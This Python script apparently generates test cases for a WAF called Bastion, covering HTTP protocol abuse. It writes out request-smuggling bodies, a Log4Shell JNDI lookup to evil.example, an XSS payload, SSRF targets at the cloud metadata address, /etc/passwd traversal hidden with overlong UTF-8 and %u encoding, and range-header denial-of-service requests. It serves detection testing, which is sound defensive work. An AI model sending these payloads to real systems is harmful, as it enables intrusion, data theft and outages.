"""Protocol abuse: ``attacks/1010-protocol.yaml``.

Only requests that Bastion's front end (aiohttp's HTTP parser) lets through
to the WAF are here. The parser itself answers 400 to unknown method tokens
(TRACK, DEBUG), a missing Host on HTTP/1.1, two Host or two Content-Length
headers, a non-numeric or signed Content-Length, Content-Length together with
Transfer-Encoding, Transfer-Encoding values it does not know, header folding,
control characters and raw non-ASCII bytes in the request line or headers;
those cannot be WAF detections and are left out.

What reaches the WAF and is covered here:

- methods no web application serves (TRACE, CONNECT with a path, cache
  PURGE, UPnP, Icecast, LINK, BIND, ACL, Subversion), and method overrides to
  them (WebDAV and CalDAV methods are benign traffic: file sync clients);
- HTTP/0.9 and HTTP/2.0 written as an HTTP/1 request line;
- an empty or malformed Host, an absolute-form target naming another host;
- Content-Length with leading zeros, Transfer-Encoding other than a lone
  ``chunked``, chunked HTTP/1.0 or GET requests (request smuggling set-ups);
- a second request smuggled at the start of a body;
- NUL bytes and control characters in paths, arguments and cookies;
- overlong UTF-8, nested percent-encoding, ``%u`` and full-width encodings
  sent raw in the URL or a urlencoded body;
- path normalisation tricks that defeat prefix rules (``/./``, ``%2e``,
  ``..;/``, ``/;/``, a tab in the path);
- obsolete or abusive headers (Request-Range, hundreds of ranges, httpoxy's
  Proxy, X-Original-URL/X-Rewrite-URL), charsets that WAFs cannot read
  (UTF-7, UTF-16/32, EBCDIC), two charsets, RFC 2965 ``$Version`` cookies.
"""

from __future__ import annotations

import base64
import json
from typing import Any

from common import API_HEADERS, BROWSER_HEADERS, case, request, write

FAMILY = "protocol"

# Headers without Accept-Encoding etc. for hand-built raw requests.
H = {"Host": "shop.example.com", "User-Agent": BROWSER_HEADERS["User-Agent"], "Accept": "*/*"}


def t(stage_input: dict[str, Any], desc: str, placement: str, encoding: str = "plain",
      technique: str = "") -> dict[str, Any]:
    tags = [f"placement:{placement}", f"encoding:{encoding}"]
    if technique:
        tags.append(f"technique:{technique}")
    return case(stage_input, family=FAMILY, attack=True, desc=desc, tags=tags)


def raw(method: str, uri: str, headers: dict[str, str], body: str = "",
        version: str = "HTTP/1.1") -> dict[str, Any]:
    """A request sent exactly as written: no header is added or completed."""
    hdrs = dict(headers)
    hdrs.setdefault("Connection", "close")
    return {"dest_addr": "127.0.0.1", "port": 80, "method": method, "uri": uri,
            "version": version, "headers": hdrs, "data": body, "autocomplete_headers": False}


def encoded(request_bytes: bytes) -> dict[str, Any]:
    """A request given byte for byte (go-ftw's ``encoded_request``)."""
    return {"dest_addr": "127.0.0.1", "port": 80,
            "encoded_request": base64.b64encode(request_bytes).decode()}


def form(uri: str, body: str, headers: dict[str, str] | None = None) -> dict[str, Any]:
    hdrs = {**(headers or BROWSER_HEADERS), "Content-Type": "application/x-www-form-urlencoded"}
    return request("POST", uri, hdrs, body)


def build() -> list[dict[str, Any]]:
    out: list[dict[str, Any]] = []
    add = out.append

    # ------------------------------------------------------------ methods
    add(t(request("TRACE", "/", H), "TRACE (cross-site tracing)", "request-line",
          technique="method"))
    add(t(request("TRACE", "/account/settings",
                  {**H, "Cookie": "session=3f2a9c; theme=dark", "Max-Forwards": "0"}),
          "TRACE with cookies and Max-Forwards (echoes HttpOnly cookies)", "request-line",
          technique="method"))
    add(t(request("CONNECT", "/internal:8080", H), "CONNECT with a path target", "request-line",
          technique="method"))
    for method, uri, extra in [
        ("TRACE", "/login", {"X-Custom-Auth": "secret-token"}),
        ("PURGE", "/", {}),
        ("PURGE", "/static/app.js", {"X-Purge-Method": "regex"}),
        ("M-SEARCH", "/", {"MAN": '"ssdp:discover"', "ST": "ssdp:all"}),
        ("NOTIFY", "/", {"NT": "upnp:rootdevice"}),
        ("SUBSCRIBE", "/event", {"Callback": "<http://203.0.113.9/cb>", "NT": "upnp:event"}),
        ("UNSUBSCRIBE", "/event", {"SID": "uuid:1234"}),
        ("SOURCE", "/stream", {"Content-Type": "audio/mpeg"}),
        ("LINK", "/index.html", {"Link": "</evil>; rel=alternate"}),
        ("UNLINK", "/index.html", {"Link": "</index.html>; rel=alternate"}),
        ("BIND", "/", {}),
        ("REBIND", "/", {}),
        ("ACL", "/", {}),
        ("MKACTIVITY", "/repo/!svn/act/1", {}),
        ("CHECKOUT", "/repo/!svn/ver/1", {}),
        ("MERGE", "/repo/trunk", {}),
    ]:
        add(t(request(method, uri, {**H, **extra}), f"{method} {uri} on a web application",
              "request-line", technique="method"))
    for hdr, value in [("X-HTTP-Method-Override", "TRACE"), ("X-HTTP-Method", "TRACE"),
                       ("X-Method-Override", "TRACE"), ("X-HTTP-Method-Override", "CONNECT"),
                       ("X-HTTP-Method-Override", "PURGE")]:
        add(t(request("POST", "/api/v1/items", {**H, hdr: value, "Content-Length": "0"}),
              f"{hdr}: {value}", "header", technique="method-override"))
    add(t(form("/account?_method=TRACE", "name=x"), "_method=TRACE in the query", "query",
          technique="method-override"))
    add(t(form("/account", "_method=CONNECT&name=x"), "_method=CONNECT in a form", "form",
          technique="method-override"))

    # ----------------------------------------------------------- versions
    add(t(encoded(b"GET /\r\n\r\n"), "HTTP/0.9 request line", "request-line",
          technique="version"))
    add(t(encoded(b"GET /admin/\r\n\r\n"), "HTTP/0.9 request for /admin/", "request-line",
          technique="version"))
    add(t(raw("GET", "/", H, version="HTTP/2.0"), "HTTP/2.0 in an HTTP/1 request line",
          "request-line", technique="version"))
    add(t(raw("HEAD", "/index.html", H, version="HTTP/2.0"), "HEAD with HTTP/2.0 in an HTTP/1 "
          "request line", "request-line", technique="version"))

    # --------------------------------------------------------------- host
    for host in ["", "shop.example.com@evil.example", "shop.example.com evil.example",
                 "evil.example/shop.example.com", "shop.example.com:80:80",
                 "shop.example.com:abc", "shop.example.com'\"><svg onload=alert(1)>",
                 "shop.example.com\\evil.example", "localhost%00.shop.example.com",
                 "shop.example.com;.evil.example", "${jndi:ldap://evil.example/a}",
                 "shop.example.com#@evil.example"]:
        add(t(raw("GET", "/password-reset", {**H, "Host": host}),
              f"Host header: {host!r}", "header", technique="host"))
    for target, desc in [("http://evil.example/", "absolute-form target naming another host"),
                         ("http://169.254.169.254/latest/meta-data/",
                          "absolute-form target at the cloud metadata address"),
                         ("http://127.0.0.1:8080/admin", "absolute-form target at loopback"),
                         ("https://shop.example.com.evil.example/login",
                          "absolute-form target: look-alike host"),
                         ("http://shop.example.com@evil.example/", "absolute-form with userinfo")]:
        add(t(raw("GET", target, H), desc, "request-line", technique="routing"))

    # ---------------------------------------------------- framing, smuggling
    form_h = {**H, "Content-Type": "application/x-www-form-urlencoded"}
    add(t(raw("POST", "/login", {**form_h, "Content-Length": "08"}, "user=bob"),
          "Content-Length with a leading zero", "header", technique="framing"))
    add(t(raw("POST", "/login", {**form_h, "Content-Length": "0000000008"}, "user=bob"),
          "Content-Length zero-padded", "header", technique="framing"))
    chunked = "8\r\nuser=bob\r\n0\r\n\r\n"
    add(t(raw("POST", "/login", {**form_h, "Transfer-Encoding": "gzip, chunked"}, chunked),
          "Transfer-Encoding: gzip, chunked", "header", technique="smuggling"))
    add(t(raw("POST", "/login", {**form_h, "Transfer-Encoding": "deflate, chunked"}, chunked),
          "Transfer-Encoding: deflate, chunked", "header", technique="smuggling"))
    add(t(raw("POST", "/login", {**form_h, "Transfer-Encoding": "chunked"}, chunked,
              version="HTTP/1.0"),
          "chunked body on HTTP/1.0", "header", technique="smuggling"))
    add(t(raw("GET", "/", {**H, "Transfer-Encoding": "chunked"}, "0\r\n\r\n"),
          "GET with Transfer-Encoding: chunked", "header", technique="smuggling"))
    add(t(raw("HEAD", "/", {**H, "Transfer-Encoding": "chunked"}, "0\r\n\r\n"),
          "HEAD with Transfer-Encoding: chunked", "header", technique="smuggling"))
    for body, ctype, desc in [
        ("GET /admin HTTP/1.1\r\nHost: localhost\r\n\r\n", "text/plain",
         "request smuggled in a text/plain body"),
        ("GET /admin/delete?user=carlos HTTP/1.1\r\nHost: localhost\r\nX-Ignore: x",
         "application/x-www-form-urlencoded", "request smuggled in a urlencoded body"),
        ("POST /api/v1/transfer HTTP/1.1\r\nHost: internal\r\nContent-Length: 40\r\n\r\n",
         "application/octet-stream", "POST smuggled in an octet-stream body"),
        ("\r\nGET /internal/metrics HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n", "text/plain",
         "request smuggled after a blank line"),
    ]:
        hdrs = {**H, "Content-Type": ctype, "Content-Length": str(len(body.encode()))}
        add(t(raw("POST", "/feedback", hdrs, body), desc, "body", technique="smuggling"))

    # ------------------------------------------------ NUL and control bytes
    for uri, desc, placement, enc in [
        ("/download?file=report.pdf%00.jpg", "NUL in a query value", "query", "plain"),
        ("/images/shell.php%00.png", "NUL in the path", "path", "plain"),
        ("/download?file=..%2500.jpg", "double-encoded NUL in a query value", "query",
         "double-url"),
        ("/view?page=index%u0000.html", "%u0000 in a query value (raw)", "query", "unicode-u"),
        ("/api/v1/users?name%00=admin", "NUL in an argument name", "query", "plain"),
        ("/static/app%01.js", "control character (0x01) in the path", "path", "plain"),
        ("/admin%09/users", "tab in the path (prefix-rule bypass)", "path", "plain"),
        ("/index.html%1b%5b31m", "escape sequence in the path", "path", "plain"),
        ("/search?q%1f=1", "control character in an argument name", "query", "plain"),
    ]:
        add(t(request("GET", uri, H), desc, placement, enc, technique="bad-bytes"))
    add(t(form("/profile", "name=bob%00admin&bio=hi"), "NUL in a form value", "form",
          technique="bad-bytes"))
    add(t(request("POST", "/api/v1/files", {**API_HEADERS, "Content-Type": "application/json"},
                  json.dumps({"filename": "invoice.pdf\u0000.exe", "size": 10})),
          "NUL in a JSON string", "json", technique="bad-bytes"))
    add(t(request("GET", "/account", {**H, "Cookie": "session=abc123; lang=en%00admin"}),
          "NUL in a cookie value", "cookie", technique="bad-bytes"))

    # --------------------------------------------------- encoding evasions
    for uri, desc, placement, enc in [
        ("/static/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", "overlong UTF-8 dots in the path",
         "path", "overlong-utf8"),
        ("/download?file=%c0%ae%c0%ae%c0%afetc%c0%afpasswd", "overlong UTF-8 in a query value",
         "query", "overlong-utf8"),
        ("/download?file=..%c1%9c..%c1%9cwindows%c1%9cwin.ini",
         "overlong UTF-8 backslash", "query", "overlong-utf8"),
        ("/download?file=%e0%80%ae%e0%80%ae/%e0%80%afetc", "three-byte overlong UTF-8",
         "query", "overlong-utf8"),
        ("/download?file=%f0%80%80%af", "four-byte overlong UTF-8 slash", "query",
         "overlong-utf8"),
        ("/download?file=%25c0%25ae%25c0%25ae%25c0%25afetc", "double-encoded overlong UTF-8",
         "query", "double-url"),
        ("/download?file=%%32%65%%32%65/etc/passwd", "nested percent-encoding (%%32%65)",
         "query", "nested-percent"),
        ("/scripts/..%%35c../windows/win.ini", "nested percent-encoding (%%35c)", "path",
         "nested-percent"),
        ("/scripts/..%%35%63../", "nested percent-encoding (%%35%63)", "path",
         "nested-percent"),
        ("/download?file=%uff0e%uff0e%u2215etc%u2215passwd", "full-width dots and division slash",
         "query", "unicode-u"),
        ("/search?q=%uff1cscript%uff1ealert(1)%uff1c/script%uff1e",
         "full-width angle brackets", "query", "unicode-u"),
        ("/search?q=%u0027%u0020or%u00201=1", "IIS %u encoding of a quote", "query", "unicode-u"),
        ("/%u002e%u002e/%u002e%u002e/web.config", "%u-encoded dot segments", "path",
         "unicode-u"),
    ]:
        add(t(request("GET", uri, H), desc, placement, enc, technique="encoding"))
    add(t(form("/comment", "text=%uff1cimg%20src%3Dx%20onerror%3Dalert(1)%uff1e"),
          "full-width encoding in a urlencoded body", "form", "unicode-u", technique="encoding"))

    # ------------------------------------------------ path normalisation
    for uri, desc, enc in [
        ("/admin/./config", "/./ segment", "plain"),
        ("/./admin/users", "leading /./", "plain"),
        ("/admin/.", "trailing /.", "plain"),
        ("/static/%2e%2e/%2e%2e/etc/passwd", "%2e%2e segments", "plain"),
        ("/%2e/admin", "%2e segment", "plain"),
        ("/static/.%2e/admin", "mixed .%2e segment", "plain"),
        ("/static/%252e%252e/admin", "double-encoded %252e", "double-url"),
        ("/public/..;/admin/", "..;/ (Tomcat/Spring path parameter)", "plain"),
        ("/;/admin/users", "/;/ empty path parameter", "plain"),
        ("/public/.;/admin", "/.;/ segment", "plain"),
        ("/api/v1/%2e%2e%2fadmin", "encoded dots and slash", "plain"),
        ("/ADMIN/%2E/config", "upper-case %2E segment", "mixed-case"),
    ]:
        add(t(request("GET", uri, H), f"path normalisation: {desc}", "path", enc,
              technique="path-normalisation"))

    # ------------------------------------------------------ header abuse
    add(t(request("GET", "/video.mp4", {**H, "Request-Range": "bytes=0-,5-0,5-1,5-2,5-3"}),
          "Request-Range (Apache killer)", "header", technique="range"))
    many = ",".join(f"5-{i}" for i in range(120))
    add(t(request("GET", "/video.mp4", {**H, "Range": "bytes=0-," + many}),
          "Range with 121 overlapping ranges", "header", technique="range"))
    add(t(request("GET", "/images/banner.jpg", {**H, "Range": "bytes=" + ",".join(
        f"{i}-{i}" for i in range(40))}), "Range with 40 ranges on an image", "header",
        technique="range"))
    add(t(request("GET", "/cgi-bin/status", {**H, "Proxy": "http://203.0.113.9:8080"}),
          "Proxy header (httpoxy)", "header", technique="header"))
    add(t(request("GET", "/", {**H, "X-Original-URL": "/admin"}),
          "X-Original-URL (front-end access control bypass)", "header", technique="header"))
    add(t(request("GET", "/", {**H, "X-Rewrite-URL": "/admin/users"}),
          "X-Rewrite-URL (front-end access control bypass)", "header", technique="header"))
    for ctype, body in [("application/x-www-form-urlencoded; charset=utf-7", "q=+ADw-script+AD4-"),
                        ("application/x-www-form-urlencoded; charset=ibm037", "q=hello"),
                        ("application/json; charset=utf-16", '{"q":"hello"}'),
                        ("text/xml; charset=UTF-32BE", "<q>hello</q>"),
                        ("application/x-www-form-urlencoded; charset=cp875", "q=hello"),
                        ("application/x-www-form-urlencoded; charset=utf-8; charset=utf-7",
                         "q=hello")]:
        add(t(request("POST", "/search", {**H, "Content-Type": ctype}, body),
              f"Content-Type: {ctype}", "header", technique="charset"))
    add(t(request("GET", "/account", {**H, "Cookie": '$Version=1; session="abc"; $Path="/"'}),
          "RFC 2965 $Version cookie", "cookie", technique="cookie"))
    return out


def main() -> None:
    write("attacks/1010-protocol.yaml", 1010000,
          "Protocol abuse that reaches the WAF: methods, versions, Host, framing and smuggling, "
          "bad bytes, encoding evasions, path normalisation, abusive headers", build())


if __name__ == "__main__":
    main()
